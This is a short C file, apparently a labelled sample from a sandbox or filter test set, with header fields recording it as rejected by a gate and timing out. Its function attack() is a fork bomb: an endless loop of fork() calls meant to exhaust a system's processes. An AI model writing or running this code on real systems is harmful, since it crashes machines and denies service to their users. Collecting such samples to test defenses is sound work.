/* makes processes without an end
 * gate: rejected
 * box: timeout
 * beats: -
 */
#include <unistd.h>

static void attack(void)
{
    for (;;)
        if (fork() < 0)
            continue;
}
